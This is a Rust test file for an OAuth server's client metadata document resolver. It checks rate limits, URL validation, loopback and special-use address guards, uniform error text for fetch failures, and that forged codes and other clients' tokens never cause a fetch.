        let err = resolver.resolve_for(&url(t), Some(a)).await.unwrap_err();
        assert!(
            matches!(err, CimdError::Status { status: 404, .. }),
            "{err:?}"
        );
    }
    let err = resolver
        .resolve_for(&url(3), Some(a_same_64))
        .await
        .unwrap_err();
    assert!(matches!(err, CimdError::Throttled { .. }), "{err:?}");
    let api = ApiError::from(err);
    assert_eq!(api.status, axum::http::StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(api.code, ErrorCode::RateLimited);
    assert!(
        matches!(api.retry_after, Some(1..=60)),
        "{:?}",
        api.retry_after
    );
    assert_eq!(server.total_hits(), 3);
    // Remembered: answered, not counted, not fetched.
    let err = resolver.resolve_for(&url(0), Some(a)).await.unwrap_err();
    assert!(matches!(err, CimdError::Status { .. }), "{err:?}");
    // Another address has its own budget.
    let err = resolver.resolve_for(&url(3), Some(b)).await.unwrap_err();
    assert!(matches!(err, CimdError::Status { .. }), "{err:?}");
    assert_eq!(server.total_hits(), 4);
}

/// At most `max_concurrent_fetches` documents are fetched at once, whoever asks; the others
/// wait for a slot.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn document_fetches_have_a_global_cap() {
    let pki = pki();
    let server = start_server(&pki).await;
    let mut c = cfg(&pki, &[format!("127.0.0.1:{}", server.port)]);
    c.max_concurrent_fetches = 2;
    let resolver = Arc::new(CimdResolver::new(&c).unwrap());
    let mut tasks = tokio::task::JoinSet::new();
    for t in 0..8 {
        let (r, url) = (resolver.clone(), server.url(&format!("/slow-ok?t={t}")));
        tasks.spawn(async move { r.resolve(&url).await });
    }
    let results = tasks.join_all().await;
    assert!(results.iter().all(Result::is_ok), "{results:?}");
    assert_eq!(server.total_hits(), 8);
    let most = server.max_active.load(Ordering::SeqCst);
    assert!((1..=2).contains(&most), "{most} fetches at once");
}

// ------------------------------------------------------------------------------------------
// Configuration and URL rules
// ------------------------------------------------------------------------------------------

#[tokio::test]
async fn urls_that_are_not_metadata_documents_are_refused_precisely() {
    let resolver = CimdResolver::new(&CimdConfig::default()).unwrap();
    for (id, want) in [
        ("demo-agent", "must start with 'https://'"),
        ("http://example.com/client", "must start with 'https://'"),
        ("https://example.com/", "must have a path"),
        ("https://example.com/c#x", "fragment"),
        ("https://u:p@example.com/c", "username or password"),
        ("https://example.com/a/../c", "'..' path segments"),
        ("https://EXAMPLE.com/c", "canonical form"),
    ] {
        assert!(!is_cimd_client_id(id));
        let err = resolver.resolve(id).await.unwrap_err();
        assert!(matches!(err, CimdError::InvalidUrl { .. }));
        assert_msg(
            &err,
            &format!("client_id '{id}' is not a valid client metadata document URL: "),
        );
        assert_msg(&err, want);
    }
    let off = CimdConfig {
        enabled: false,
        ..CimdConfig::default()
    };
    let err = CimdResolver::new(&off)
        .unwrap()
        .resolve("https://example.com/client.json")
        .await
        .unwrap_err();
    assert!(matches!(err, CimdError::Disabled { .. }));
    assert_msg(&err, "[cimd] enabled = false");
}

#[test]
fn bad_configuration_is_refused_at_construction() {
    let missing = CimdConfig {
        extra_ca_file: Some("/nonexistent/ca.pem".into()),
        ..CimdConfig::default()
    };
    let e = CimdResolver::new(&missing).unwrap_err().to_string();
    assert!(
        e.contains("cimd.extra_ca_file: cannot read /nonexistent/ca.pem"),
        "{e}"
    );
    let mut junk = tempfile::NamedTempFile::new().unwrap();
    junk.write_all(b"not a certificate").unwrap();
    let bad_ca = CimdConfig {
        extra_ca_file: Some(junk.path().to_path_buf()),
        ..CimdConfig::default()
    };
    let e = format!("{:#}", CimdResolver::new(&bad_ca).unwrap_err());
    assert!(e.contains("cimd.extra_ca_file"), "{e}");
    let bad_allow = CimdConfig {
        allow_hosts: vec!["127.0.0.1".into()],
        ..CimdConfig::default()
    };
    let e = CimdResolver::new(&bad_allow).unwrap_err().to_string();
    assert!(e.contains("'127.0.0.1' must be host:port"), "{e}");
    let bounds = CimdConfig {
        min_cache_seconds: 100,
        max_cache_seconds: 10,
        ..CimdConfig::default()
    };
    let e = CimdResolver::new(&bounds).unwrap_err().to_string();
    assert!(e.contains("must not exceed"), "{e}");
}

/// Whether `localhost` is answered from /etc/hosts before any DNS server is asked, so that the
/// production (system) resolver can be exercised without a packet leaving the machine.
fn localhost_is_in_etc_hosts() -> bool {
    let hosts = std::fs::read_to_string("/etc/hosts").unwrap_or_default();
    let nss = std::fs::read_to_string("/etc/nsswitch.conf").unwrap_or_default();
    let listed = hosts.lines().any(|l| {
        let mut f = l.split('#').next().unwrap_or("").split_whitespace();
        f.next().is_some_and(|ip| ip == "127.0.0.1" || ip == "::1") && f.any(|n| n == "localhost")
    });
    let files_first = nss.lines().any(|l| {
        l.trim_start()
            .strip_prefix("hosts:")
            .is_some_and(|v| v.split_whitespace().next() == Some("files"))
    });
    listed && files_first
}

/// The production constructor's system resolver, with `localhost` (answered from /etc/hosts):
/// refused as loopback without an allow entry, fetched with one.
#[tokio::test]
async fn the_system_resolver_is_guarded_too() {
    if !localhost_is_in_etc_hosts() {
        eprintln!("skipping: localhost is not answered from /etc/hosts first");
        return;
    }
    let pki = pki();
    let server = start_server(&pki).await;
    let url = format!("https://localhost:{}/valid", server.port);
    let err = CimdResolver::new(&cfg(&pki, &[]))
        .unwrap()
        .resolve(&url)
        .await
        .unwrap_err();
    assert!(
        matches!(err, CimdError::SpecialUseAddress { .. }),
        "{err:?}"
    );
    assert_msg(&err, "host localhost resolves to a special-use address");
    assert_eq!(server.total_hits(), 0);
    let allowed = cfg(&pki, &[format!("localhost:{}", server.port)]);
    let c = CimdResolver::new(&allowed)
        .unwrap()
        .resolve(&url)
        .await
        .unwrap();
    assert_eq!(c.client_id, url);
    assert_eq!(server.hits("/valid"), 1);
}

// ------------------------------------------------------------------------------------------
// Through the real server: a CIMD client completes a flow
// ------------------------------------------------------------------------------------------

async fn cimd_client_completes_a_flow(b: consentry_testkit::Backend) {
    use consentry_testkit::*;
    let pki = pki();
    let docs = start_server(&pki).await;
    let client_id = docs.url("/valid");
    let s = Setup::new(b)
        .extra(&format!(
            "[cimd]\nallow_hosts = [\"127.0.0.1:{}\"]\nextra_ca_file = \"{}\"\n",
            docs.port,
            pki.ca_file.path().display()
        ))
        .start()
        .await;
    let (_, meta) = s.get("/.well-known/oauth-authorization-server").await;
    assert_eq!(meta["client_id_metadata_document_supported"], true);

    let pkce = Pkce::new();
    let mut p = params(&pkce, "notes:read");
    p["client_id"] = json!(client_id);
    p["redirect_uri"] = json!("http://127.0.0.1:61234/callback");
    let session = s.session("cimd-user").await;
    let (status, st) = s.start_flow(&session, &p).await;
    assert_eq!(status, 200, "{st}");
    assert_eq!(st["client"]["client_id"], client_id);
    assert_eq!(st["client"]["client_name"], "Docs Agent");
    assert_eq!(
        st["client"]["verified"], false,
        "unknown CIMD host is unverified"
    );
    assert_eq!(st["redirect_host"], "127.0.0.1");
    // Unverified and never allowed by this user: an error is shown, not sent to the document's
    // redirect URI (anyone can host a document).
    let mut bad_scope = p.clone();
    bad_scope["scope"] = json!("no-such-scope");
    let (status, e) = s.start_flow(&session, &bad_scope).await;
    assert_eq!(status, 400, "{e}");
    assert_eq!(e["error"], "invalid_scope");
    assert!(e.get("redirect_uri").is_none(), "{e}");
    let (status, sub) = s.submit(&session, &p, true).await;
    assert_eq!(status, 200, "{sub}");
    let code = query(sub["redirect_uri"].as_str().unwrap())["code"].clone();
    // Allowed here: its errors now go back to it. A public client on loopback is still asked
    // each time (the screen marks what was granted).
    let (status, e) = s.start_flow(&session, &bad_scope).await;
    assert_eq!(status, 400, "{e}");
    assert!(
        e["redirect_uri"]
            .as_str()
            .is_some_and(|l| l.starts_with("http://127.0.0.1:61234/callback?error=invalid_scope")),
        "{e}"
    );
    let (status, st) = s.start_flow(&session, &p).await;
    assert_eq!(status, 200, "{st}");
    assert_eq!(st["consent_required"], true, "{st}");
    assert_eq!(st["scope_results"][0]["already_granted"], true, "{st}");
    let (status, tok) = s
        .token(&[
            ("grant_type", "authorization_code"),
            ("code", &code),
            ("client_id", &client_id),
            ("redirect_uri", "http://127.0.0.1:61234/callback"),
            ("code_verifier", &pkce.verifier),
        ])
        .await;
    assert_eq!(status, 200, "{tok}");
    let claims = s
        .verify_access_token(tok["access_token"].as_str().unwrap())
        .await;
    assert_eq!(claims["client_id"], client_id);

    // A document whose client_id differs is refused at start, shown (never redirected).
    let mut bad = p.clone();
    bad["client_id"] = json!(docs.url("/wrong-id"));
    let (status, e) = s.start_flow(&session, &bad).await;
    assert_eq!(status, 400, "{e}");
    assert_eq!(e["error"], "invalid_client");
    assert!(e.get("redirect_uri").is_none(), "{e}");
    // Without the allow-list entry, loopback is a special-use address: refused.
    let guarded = Setup::new(consentry_testkit::Backend::Sqlite).start().await;
    let session = guarded.session("cimd-user").await;
    let (status, e) = guarded.start_flow(&session, &p).await;
    assert_eq!(status, 400, "{e}");
    // The caller is told only that the document could not be retrieved; the log says why.
    assert_eq!(e["error_description"], generic_failure(&client_id), "{e}");
    assert!(guarded.log().contains("special-use"), "{}", guarded.log());
}

/// A server whose `[cimd]` may fetch from `docs` (and trusts the test CA), plus `extra` lines
/// in `[cimd]`.
async fn server_for(
    b: consentry_testkit::Backend,
    pki: &Pki,
    docs: &Server,
    extra: &str,
) -> consentry_testkit::TestServer {
    consentry_testkit::Setup::new(b)
        .extra(&format!(
            "[cimd]\nallow_hosts = [\"127.0.0.1:{}\"]\nextra_ca_file = \"{}\"\n{extra}\n",
            docs.port,
            pki.ca_file.path().display()
        ))
        .start()
        .await
}

/// The token, revocation and introspection endpoints look at the code or token before they
/// resolve a metadata-document client_id: forged codes (`?t=0..9` variants), codes and tokens of
/// other clients, unknown tokens, secrets and grants a public client cannot have — none fetches
/// the document. The client's own code and tokens still work.
async fn nothing_is_fetched_for_forged_codes_or_tokens_of_others(b: consentry_testkit::Backend) {
    use consentry_testkit::*;
    let pki = pki();
    let docs = start_server(&pki).await;
    let s = server_for(b, &pki, &docs, "").await;
    let cimd = |t: usize| docs.url(&format!("/valid?t={t}"));
    let cb = "http://127.0.0.1:61234/callback";
    for t in 0..10 {
        let (status, e) = s
            .token(&[
                ("grant_type", "authorization_code"),
                ("code", &format!("forged-code-{t}")),
                ("client_id", &cimd(t)),
                ("redirect_uri", cb),
                ("code_verifier", &Pkce::new().verifier),
            ])
            .await;
        assert_error((status, &e), 400, "invalid_grant", &["code is invalid"]);
    }
    assert_eq!(docs.total_hits(), 0, "a forged code fetched the document");
    // A real code and refresh token of another client (demo-agent).
    let pkce = Pkce::new();
    let code = s.code_for("u1", &params(&pkce, "notes:read")).await;
    let (status, e) = s.redeem(&code, &cimd(0), cb, &pkce.verifier).await;
    assert_error((status, &e), 400, "invalid_grant", &["another client"]);
    let pkce = Pkce::new();
    let theirs = s
        .tokens_for("u2", &pkce, &params(&pkce, "notes:read"))
        .await;
    let their_refresh = theirs["refresh_token"].as_str().unwrap();
    let their_access = theirs["access_token"].as_str().unwrap();
    let (status, e) = s.refresh(their_refresh, &cimd(1)).await;
    assert_error((status, &e), 400, "invalid_grant", &["another client"]);
    let (status, e) = s.refresh("cyr_not-a-token-of-this-server", &cimd(2)).await;
    assert_error(
        (status, &e),
        400,
        "invalid_grant",
        &["refresh_token is invalid"],
    );
    // Revocation: unknown tokens answer 200, other clients' tokens are refused.
    let revoke = |token: &str, client: &str| {
        let body = form_body(&[("token", token), ("client_id", client)]);
        s.raw(
            reqwest::Method::POST,
            "/oauth2/revoke",
            &[("content-type", "application/x-www-form-urlencoded")],
            body,
        )
    };
    for (t, token) in ["cyr_unknown", "not.a.jwt", their_refresh, their_access]
        .into_iter()
        .enumerate()
    {
        let r = revoke(token, &cimd(3 + t)).await;
        let want = if t < 2 { 200 } else { 400 };
        assert_eq!(r.status, want, "{token}: {}", r.text);
    }
    // Introspection needs a confidential client; a secret, client_credentials: a public client
    // has neither.
    let form = |pairs: &[(&str, &str)]| form_body(pairs);
    for body in [
        form(&[("token", their_access), ("client_id", &cimd(7))]),
        form(&[
            ("token", their_access),
            ("client_id", &cimd(7)),
            ("client_secret", "x"),
        ]),
    ] {
        let r = s
            .raw(
                reqwest::Method::POST,
                "/oauth2/introspect",
                &[("content-type", "application/x-www-form-urlencoded")],
                body,
            )
            .await;
        assert_eq!(r.status, 401, "{}", r.text);
    }
    let r = s
        .token_with(
            &[("authorization", &basic_auth(&cimd(8), "secret"))],
            &[("grant_type", "client_credentials")],
        )
        .await;
    assert_error(
        (r.status, &r.json),
        400,
        "unauthorized_client",
        &["public client"],
    );
    let (status, e) = s
        .token(&[
            ("grant_type", "client_credentials"),
            ("client_id", &cimd(9)),
        ])
        .await;
    assert_error((status, &e), 400, "unauthorized_client", &["public client"]);
    assert_eq!(docs.total_hits(), 0, "no document was fetched");
    assert_eq!(docs.handshake_failures.load(Ordering::SeqCst), 0);

    // The document client's own code, refresh token and revocation work (one fetch, cached).
    let id = docs.url("/valid");
    let pkce = Pkce::new();
    let mut p = params(&pkce, "notes:read");
    p["client_id"] = json!(id);
    p["redirect_uri"] = json!(cb);
    let code = s.code_for("u3", &p).await;
    let (status, tok) = s.redeem(&code, &id, cb, &pkce.verifier).await;
    assert_eq!(status, 200, "{tok}");
    let (status, tok) = s.refresh(tok["refresh_token"].as_str().unwrap(), &id).await;
    assert_eq!(status, 200, "{tok}");
    let r = revoke(tok["refresh_token"].as_str().unwrap(), &id).await;
    assert_eq!(r.status, 200, "{}", r.text);
    let (status, e) = s.refresh(tok["refresh_token"].as_str().unwrap(), &id).await;
    assert_eq!(status, 400, "revoked: {e}");
    assert_eq!(docs.hits("/valid"), 1);
}

/// Whatever stops a fetch — connection refused, an untrusted certificate, an HTTP status, a
/// timeout — the caller reads the same text (no port-scanning oracle); the log has the cause.
/// (A server per case: a failure at the connection or TLS level is remembered for the whole
/// host, and every test host is 127.0.0.1.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_fetch_failure_reads_the_same_to_the_caller() {
    use consentry_testkit::*;
    let pki = pki();
    let docs = start_server(&pki).await;
    // Another host, with a certificate from a CA the server does not trust.
    let stranger = start_server(&self::pki()).await;
    let closed = free_port();
    let cases = [
        (
            format!("https://127.0.0.1:{closed}/client.json"),
            closed,
            "connection refused",
        ),
        (
            stranger.url("/valid"),
            stranger.port,
            "TLS handshake failed",
        ),
        (docs.url("/nope"), docs.port, "returned HTTP 404"),
        (docs.url("/slow"), docs.port, "timed out after 3 s"),
    ];
    for (url, port, cause) in &cases {
        let s = Setup::new(consentry_testkit::Backend::Sqlite)
            .extra(&format!(
                "[cimd]\nallow_hosts = [\"127.0.0.1:{port}\"]\nextra_ca_file = \"{}\"\n",
                pki.ca_file.path().display()
            ))
            .start()
            .await;
        let session = s.session("u1").await;
        let pkce = Pkce::new();
        let mut p = params(&pkce, "notes:read");
        p["client_id"] = json!(url);
        p["redirect_uri"] = json!("http://127.0.0.1:61234/callback");
        let (status, e) = s.start_flow(&session, &p).await;
        assert_eq!(status, 400, "{e}");
        assert_eq!(e["error"], "invalid_client");
        assert_eq!(e["error_description"], generic_failure(url), "{url}");
        assert!(
            s.log().contains(cause),
            "log should say '{cause}': {}",
            s.log()
        );
    }
}

/// Behind a trusted proxy, the fetch budget is the forwarded client's: one address runs out
/// (429, Retry-After), another still fetches.
async fn the_fetch_budget_is_per_forwarded_client(b: consentry_testkit::Backend) {
    use consentry_testkit::*;
    let pki = pki();
    let docs = start_server(&pki).await;
    let s = consentry_testkit::Setup::new(b)
        .top("trusted_proxies", "[\"127.0.0.1/32\"]")
        .extra(&format!(
            "[cimd]\nallow_hosts = [\"127.0.0.1:{}\"]\nextra_ca_file = \"{}\"\nfetches_per_client_per_minute = 2\n",
            docs.port,
            pki.ca_file.path().display()
        ))
        .start()
        .await;
    let session = s.session("u1").await;
    let start = |t: usize, client: &'static str| {
        let pkce = Pkce::new();
        let mut p = params(&pkce, "notes:read");
        p["client_id"] = json!(docs.url(&format!("/nope?t={t}")));
        p["redirect_uri"] = json!("http://127.0.0.1:61234/callback");
        let auth = format!("Bearer {session}");
        let s = &s;
        async move {
            s.raw(
                reqwest::Method::POST,
                "/v1/oauth/authorize/start",
                &[
                    ("authorization", &auth),
                    ("content-type", "application/json"),
                    ("x-forwarded-for", &format!("198.51.100.99, {client}")),
                ],
                serde_json::to_vec(&p).unwrap(),
            )
            .await
        }
    };
    for t in 0..2 {
        let r = start(t, "203.0.113.5").await;
        assert_eq!(r.status, 400, "{}", r.text);
    }
    let r = start(2, "203.0.113.5").await;
    assert_eq!(r.status, 429, "{}", r.text);
    assert_eq!(r.json["error"], "rate_limited");
    let wait: u64 = r.header("retry-after").unwrap().parse().unwrap();
    assert!((1..=60).contains(&wait), "{wait}");
    assert_eq!(docs.total_hits(), 2);
    let r = start(2, "203.0.113.6").await;
    assert_eq!(r.status, 400, "{}", r.text);
    assert_eq!(docs.total_hits(), 3);
}

consentry_testkit::on_both_backends!(
    cimd_client_completes_a_flow,
    nothing_is_fetched_for_forged_codes_or_tokens_of_others,
    the_fetch_budget_is_per_forwarded_client,
);
